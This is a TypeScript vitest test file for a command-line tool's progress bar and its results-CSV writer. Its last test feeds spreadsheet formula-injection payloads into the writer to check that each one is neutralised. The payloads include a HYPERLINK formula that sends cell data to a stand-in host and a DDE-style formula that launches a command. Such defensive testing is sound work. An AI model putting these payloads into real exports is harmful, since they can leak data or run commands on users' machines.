import {mkdtemp, readdir, readFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {PassThrough} from 'node:stream';
import {parse} from 'csv-parse/sync';
import {describe, expect, it} from 'vitest';
import {createProgress, progressLine, renderBar} from '../../src/order/progress.js';
import {writeResultsCsv} from '../../src/order/results-csv.js';

function capture(isTTY: boolean): {stream: PassThrough & {isTTY: boolean}; text: () => string} {
  const stream = Object.assign(new PassThrough(), {isTTY});
  let text = '';
  stream.on('data', (c: Buffer) => (text += c.toString()));
  return {stream, text: () => text};
}

describe('progress', () => {
  it('draws a redrawn bar with count, rate and time left on a terminal', async () => {
    const tty = capture(true);
    let now = 0;
    const p = createProgress(tty.stream, {verb: 'Sending', outcomes: true, clock: () => now});
    p.update({done: 0, total: 4, ok: 0, failed: 0, skipped: 0});
    now = 2_000;
    p.update({done: 1, total: 4, ok: 1, failed: 0, skipped: 0});
    now = 8_000;
    p.update({done: 4, total: 4, ok: 3, failed: 1, skipped: 0});
    p.finish();
    await new Promise((r) => setImmediate(r));
    expect(tty.text()).toContain('\r\u001b[2KSending [-----------------] 0/4 rows · 0 s so far · 0 ordered');
    expect(tty.text()).toMatch(/Sending \[#{4}-{13}\] 1\/4 rows · 0\.5 rows\/s, about 6 s left · 1 ordered/);
    expect(tty.text()).toMatch(/Sending \[#{17}\] 4\/4 rows · done in 8 s · 3 ordered, 1 failed\n$/);
    for (const line of tty.text().split(/\r\u001b\[2K|\n/)) expect(line.length).toBeLessThanOrEqual(79);
    expect(tty.text().endsWith('\n')).toBe(true);
  });

  it('fits the terminal width: the bar goes first, then the end of the line is cut', async () => {
    const tty = capture(true);
    Object.assign(tty.stream, {columns: 40});
    const p = createProgress(tty.stream, {verb: 'Sending', outcomes: true, clock: () => 0});
    p.update({done: 3, total: 30, ok: 1, failed: 2, skipped: 0});
    p.finish();
    await new Promise((r) => setImmediate(r));
    for (const line of tty.text().split(/\r\u001b\[2K|\n/)) expect(line.length).toBeLessThanOrEqual(39);
    expect(tty.text()).toContain('…');
  });

  it('writes plain lines, not redraws, in a pipe: at most one per interval, and a last one', async () => {
    const pipe = capture(false);
    let now = 0;
    const p = createProgress(pipe.stream, {verb: 'Checking', clock: () => now, plainEveryMs: 1_000});
    p.update({done: 0, total: 1, ok: 0, failed: 0, skipped: 0});
    now = 300;
    p.update({done: 0, total: 1, ok: 0, failed: 0, skipped: 0});
    now = 1_500;
    p.update({done: 0, total: 1, ok: 0, failed: 0, skipped: 0});
    now = 2_000;
    p.update({done: 1, total: 1, ok: 0, failed: 0, skipped: 0});
    p.finish();
    await new Promise((r) => setImmediate(r));
    expect(pipe.text()).not.toContain('\r');
    expect(pipe.text().split('\n').filter(Boolean)).toEqual(['Checking: 0/1 row · 2 s so far', 'Checking: 1/1 row · done in 2 s']);
  });

  it('narrows (or drops) the bar rather than cut the counts at 80 columns', () => {
    const short = progressLine({done: 12, total: 30, ok: 12, failed: 0, skipped: 0}, 5_000, {verb: 'Sending', outcomes: true}, true, 79);
    expect(short).toMatch(/^Sending \[#+-+\] 12\/30 rows · 2\.4 rows\/s, about 8 s left · 12 ordered$/);
    const long = progressLine({done: 12, total: 30, ok: 10, failed: 2, skipped: 0}, 5_000, {verb: 'Sending', outcomes: true}, true, 79);
    expect(long).toBe('Sending 12/30 rows · 2.4 rows/s, about 8 s left · 10 ordered, 2 failed');
    for (const line of [short, long]) expect(line.length).toBeLessThanOrEqual(79);
  });

  it('keeps the old bar shape for callers that draw one', () => {
    expect(renderBar({done: 0, total: 0, ok: 0, failed: 0, skipped: 2})).toContain('2 skipped');
  });
});

describe('results file', () => {
  it('is written whole for a spreadsheet (BOM, CRLF), sorted by row, quoting what needs it, with no temporary file left', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'btalk-results-'));
    const file = path.join(dir, 'sites.results.csv');
    await writeResultsCsv(file, [
      {row: 3, technicalSiteName: 'B', status: 'failed', error: 'The server answered 503, "busy".', requestId: 'req-1'},
      {row: 2, technicalSiteName: 'A', status: 'ok', voiceSiteId: 'vs1'},
    ]);
    expect(await readFile(file, 'utf8')).toBe(
      '\ufeffrow,technicalSiteName,customerSiteLabel,status,voiceSiteId,error,requestId\r\n2,A,,ok,vs1,,\r\n3,B,,failed,,"The server answered 503, ""busy"".",req-1\r\n',
    );
    expect(await readdir(dir)).toEqual(['sites.results.csv']);
  });
});

describe('results file from a hostile server', () => {
  it('writes no cell a spreadsheet would run as a formula, in the separator asked for', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'btalk-results-'));
    const file = path.join(dir, 'sites.results.csv');
    const hostile = ['=HYPERLINK("http://evil.invalid/?"&B2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+2', '-2+3', '\t=1+1', '\r=1+1', '\uff1d1+1'];
    await writeResultsCsv(
      file,
      hostile.map((id, i) => ({row: i + 2, technicalSiteName: `SITE_${i}`, customerSiteLabel: 'Siège Paris', status: 'ok' as const, voiceSiteId: id, requestId: id, error: id})),
      ';',
    );
    const bytes = await readFile(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text).toContain('Siège Paris');
    const records = parse(text, {bom: true, delimiter: ';', record_delimiter: '\r\n', relax_quotes: false}) as string[][];
    expect(records[0]).toEqual(['row', 'technicalSiteName', 'customerSiteLabel', 'status', 'voiceSiteId', 'error', 'requestId']);
    expect(records).toHaveLength(hostile.length + 1);
    const cells = records.flat();
    // The test of a spreadsheet: no cell it reads begins a formula.
    const formula = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
    expect(cells.filter((c) => formula.test(c))).toEqual([]);
    // Nothing was lost: each cell is the server's value behind one quote.
    records.slice(1).forEach((r, i) => {
      expect(r[4]).toBe(`'${hostile[i]}`);
      expect(r[6]).toBe(`'${hostile[i]}`);
    });
    // And each such cell is quoted in the file, as OWASP asks.
    expect(text).toContain(`;"'=HYPERLINK(""http://evil.invalid/?""&B2,""open"")";`);
  });
});
